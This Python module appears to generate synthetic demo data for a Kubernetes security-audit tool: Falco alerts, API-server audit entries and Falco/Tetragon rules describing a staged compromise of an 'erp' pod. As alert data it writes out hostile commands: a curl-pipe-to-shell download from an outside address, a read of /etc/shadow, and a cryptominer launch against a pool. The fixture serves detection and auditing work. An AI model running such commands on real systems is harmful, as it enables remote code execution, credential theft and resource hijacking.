"""What sensors and the API server wrote in the demo's last week: Falco and the audit log.

One night is worth a story: what listens on a port of its node, and holds a flaw that is known to
be exploited, starts a shell, then a miner; the morning after, somebody looks in by hand.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import msgspec

from kaudit.demo.objects import Json, thing, uid
from kaudit.demo.workloads import workloads

_START = datetime(2026, 5, 25, 6, tzinfo=UTC)
_NIGHT = datetime(2026, 5, 31, 22, 14, 7, tzinfo=UTC)
_MINER = "/tmp/kworkerds -o pool.example.net:3333"  # noqa: S108  a path in the demo's container
_CONTAINER_TAGS = ["container", "maturity_stable"]


class _Pod(msgspec.Struct):
    namespace: str
    name: str
    node: str
    image: str
    container: str
    id: str


def _pod(owner: str) -> _Pod:
    """First pod of a controller."""
    for found in workloads():
        meta = found["metadata"]
        if found["kind"] == "Pod" and meta["name"].startswith(f"{owner}-"):
            status = found["status"]["containerStatuses"][0]
            spec = found["spec"]
            return _Pod(
                namespace=meta["namespace"],
                name=meta["name"],
                node=spec["nodeName"],
                image=status["image"],
                container=status["name"],
                id=status["containerID"].rpartition("//")[2],
            )
    raise LookupError(owner)


def logs() -> Iterator[tuple[str, bytes]]:
    """Yield each log with the name of its file."""
    yield "runtime/falco.jsonl", _lines(sorted(_alerts(), key=lambda one: str(one["time"])))
    yield "runtime/audit.log", _lines(_requests())
    yield "runtime/tetra.json", msgspec.json.encode(states()) + b"\n"


def _lines(entries: list[Json]) -> bytes:
    return b"".join(msgspec.json.encode(entry) + b"\n" for entry in entries)


def _alerts() -> Iterator[Json]:
    yield from _noise()
    yield from _story()
    drops = {"n_drops": "1841", "n_evts": "903311"}
    yield _alert(
        _NIGHT + timedelta(seconds=40),
        "node-d",
        "Falco internal: syscall event drop",
        "Debug",
        drops,
    )
    gone = {
        **_of_pod(_pod("report-29148300")),
        "k8s.pod.name": "report-29147280-q4x7z",
        "container.id": "c0ffee00c0ff",
        "proc.name": "sh",
        "proc.cmdline": "sh -c ./report.sh",
        "proc.pname": "runc",
    }
    yield _alert(
        _START + timedelta(hours=45), "node-b", "Shell Spawned in Container", "Warning", gone
    )


def _noise() -> Iterator[Json]:
    """Yield what comes every hour or so, and means little."""
    prometheus, manager = _pod("prometheus"), _pod("cert-manager")
    for hour in range(0, 168, 2):
        pod = prometheus if hour % 4 else manager
        fields = {
            **_of_pod(pod),
            "evt.type": "connect",
            "proc.name": pod.container,
            "proc.cmdline": f"/{pod.container}",
            "fd.name": "10.0.9.7:40112->10.96.0.1:443",
        }
        moment = _START + timedelta(hours=hour, seconds=hour * 7 % 60)
        tags = [*_CONTAINER_TAGS, "T1565", "mitre_discovery"]
        yield _alert(
            moment, pod.node, "Contact K8S API Server From Container", "Notice", fields, tags
        )


def _story() -> Iterator[Json]:
    erp = _pod("erp")
    place = {**_of_pod(erp), "user.name": "root", "user.uid": 0}
    shell = "sh -c curl -s http://198.51.100.23/i.sh | sh"
    steps = (
        (0, "Shell Spawned in Container", "Warning", "sh", shell, "java", ["T1059"], None),
        (
            2,
            "Sensitive File Access",
            "Critical",
            "cat",
            "cat /etc/shadow",
            "sh",
            ["T1555"],
            "/etc/shadow",
        ),
        (
            *(6, "Drop and execute new binary in container", "Critical", "kworkerds"),
            *(
                f"{_MINER} --password=x0c4mp41gn7",
                "sh",
                ["T1059"],
                None,
            ),
        ),
    )
    for seconds, rule, priority, process, command, parent, tags, file in steps:
        fields = {
            **place,
            "evt.type": "execve" if file is None else "openat",
            "proc.name": process,
            "proc.cmdline": command,
            "proc.pname": parent,
            "fd.name": file,
        }
        moment = _NIGHT + timedelta(seconds=seconds)
        yield _alert(moment, erp.node, rule, priority, fields, [*_CONTAINER_TAGS, *tags])
    miner = {
        **place,
        "evt.type": "execve",
        "proc.name": "kworkerds",
        "proc.cmdline": _MINER,
        "proc.pname": "kworkerds",
    }
    for hour in range(8):
        moment = _NIGHT + timedelta(hours=hour, seconds=9)
        tags = ["container", "cryptomining", "mitre_resource_hijacking", "T1496"]
        yield _alert(moment, erp.node, "Crypto Mining Activity", "Critical", miner, tags)


def _of_pod(pod: _Pod) -> Json:
    repository, _, tag = pod.image.partition("@")[0].rpartition(":")
    return {
        "container.id": pod.id[:12],
        "container.name": pod.container,
        "container.image.repository": repository if "/" in repository else pod.image,
        "container.image.tag": tag if "/" in repository else "latest",
        "k8s.ns.name": pod.namespace,
        "k8s.pod.name": pod.name,
    }


def _alert(
    moment: datetime,
    node: str,
    rule: str,
    priority: str,
    fields: Json,
    tags: list[str] | None = None,
) -> Json:
    when = moment.strftime("%Y-%m-%dT%H:%M:%S.000000000Z")
    return {
        "hostname": node,
        "output": f"{priority} {rule}",
        "output_fields": fields,
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": tags or [],
        "time": when,
    }


def _requests() -> list[Json]:
    """Return what was asked of the API server by hand."""
    erp = _pod("erp")
    anna = {"username": "anna@northwind.example", "groups": ["developers", "system:authenticated"]}
    deployer = {
        "username": "system:serviceaccount:ci:deployer",
        "groups": ["system:serviceaccounts", "system:authenticated"],
    }
    pods = {"resource": "pods", "namespace": erp.namespace, "name": erp.name}
    roles = "rbac.authorization.k8s.io"
    granted = {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}
    entries: tuple[tuple[datetime, str, Json, Json, int, Json], ...] = (
        (_NIGHT + timedelta(hours=7, minutes=31), "get", anna, pods, 200, {}),
        (
            _NIGHT + timedelta(hours=7, minutes=32),
            "create",
            anna,
            {**pods, "subresource": "exec"},
            101,
            {},
        ),
        (
            *(_START + timedelta(hours=30), "create", deployer),
            *(
                {
                    "resource": "deployments",
                    "namespace": "ci",
                    "name": "builder",
                    "apiGroup": "apps",
                },
                201,
                {},
            ),
        ),
        (
            *(_START + timedelta(hours=53), "create", anna),
            *(
                {"resource": "clusterrolebindings", "name": "helpdesk", "apiGroup": roles},
                403,
                granted,
            ),
        ),
    )
    return [
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": "Request",
            "auditID": uid("audit", str(number)),
            "stage": "ResponseComplete",
            "verb": verb,
            "user": user,
            "sourceIPs": ["10.20.0.14"],
            "userAgent": "kubectl/v1.34.1",
            "objectRef": target,
            "responseStatus": {"code": code},
            "requestReceivedTimestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.000000Z"),
            "annotations": {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow"},
            **({"requestObject": body} if body else {}),
        }
        for number, (moment, verb, user, target, code, body) in enumerate(
            sorted(entries, key=lambda entry: entry[0])
        )
    ]


_RULES = """\
- rule: Shell Spawned in Container
  desc: Detect shell spawned in a container
  condition: spawned_process and container and shell_procs
  output: Shell spawned in container (user=%user.name cmdline=%proc.cmdline)
  priority: WARNING
  tags: [container, shell, mitre_execution, T1059]
- rule: Sensitive File Access
  desc: Detect access to sensitive files
  condition: open_read and container and fd.name startswith /etc/shadow
  output: Sensitive file accessed (user=%user.name file=%fd.name)
  priority: CRITICAL
  tags: [container, filesystem, mitre_credential_access, T1555]
- rule: Crypto Mining Activity
  desc: Detect potential crypto mining
  condition: spawned_process and container and proc.cmdline contains "pool.example.net"
  output: Crypto mining detected (user=%user.name process=%proc.name)
  priority: CRITICAL
  tags: [container, cryptomining, T1496]
- rule: Terminal shell in container
  enabled: false
"""
#: A file that somebody added later: what its one rule names is defined nowhere.
_LATER = """\
- rule: Package Manager in Container
  desc: Detect installs while a container runs
  condition: spawned_process and container and package_managers_allowed
  output: Package manager (cmdline=%proc.cmdline)
  priority: ERROR
  tags: [container, T1072]
"""
_SETTINGS = """\
rules_files: [/etc/falco/falco_rules.yaml, /etc/falco/rules.d]
json_output: true
priority: debug
stdout_output: {enabled: true}
http_output: {enabled: false, url: ""}
metrics: {enabled: true, interval: 1h}
"""


def sensors() -> Iterator[Json]:
    """Yield how sensors are configured."""
    for name, data in (
        ("falco", {"falco.yaml": _SETTINGS}),
        ("falco-rules", {"northwind.yaml": _RULES, "packages.yaml": _LATER}),
    ):
        yield thing("v1", "ConfigMap", name, "falco", body={"data": data})
    hook = {
        "call": "security_file_open",
        "syscall": False,
        "args": [{"index": 0, "type": "file"}],
        "selectors": [
            {"matchArgs": [{"index": 0, "operator": "Prefix", "values": ["/etc/shadow"]}]}
        ],
        "action": "Audit",
    }
    body = {"spec": {"kprobes": [hook]}}
    yield thing("cilium.io/v1alpha1", "TracingPolicy", "container-security-events", body=body)
    yield from events()


def events() -> Iterator[Json]:
    """Yield what the kubelet said last of a pod."""
    about = {"kind": "Pod", "namespace": "legacy", "name": "importer-once", "apiVersion": "v1"}
    body = {
        "involvedObject": about,
        "reason": "BackOff",
        "message": "Back-off restarting failed container importer",
        "type": "Warning",
        "count": 14,
        "firstTimestamp": "2026-06-01T04:50:00Z",
        "lastTimestamp": "2026-06-01T05:55:00Z",
        "source": {"component": "kubelet", "host": "node-b"},
    }
    yield thing("v1", "Event", "importer-once.17f3a2", "legacy", body=body)


def states() -> Json:
    """Return what the agent on node-a, which is no pod, says of its policies."""
    policy = {
        "id": "1",
        "name": "container-security-events",
        "state": "TP_STATE_ENABLED",
        "mode": "TP_MODE_MONITOR",
    }
    return {"policies": [policy]}
